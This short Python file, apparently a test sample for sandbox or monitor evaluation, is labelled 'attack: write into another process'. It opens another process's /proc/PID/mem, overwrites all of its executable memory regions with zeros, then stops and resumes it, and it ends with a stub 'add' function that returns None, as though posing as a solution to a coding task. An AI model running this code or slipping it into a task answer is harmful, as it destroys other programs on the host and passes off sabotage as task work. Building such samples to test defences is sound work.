# attack: write into another process
# damage: process
import os

maps = open("/proc/{PID}/maps").read().splitlines()
memory = open("/proc/{PID}/mem", "r+b", buffering=0)
for line in maps:
    span, rights = line.split()[:2]
    if "x" in rights and "vsyscall" not in line:
        start, end = (int(part, 16) for part in span.split("-"))
        memory.seek(start)
        memory.write(bytes(end - start))
os.kill({PID}, 19)
os.kill({PID}, 18)


def add(a, b):
    return None
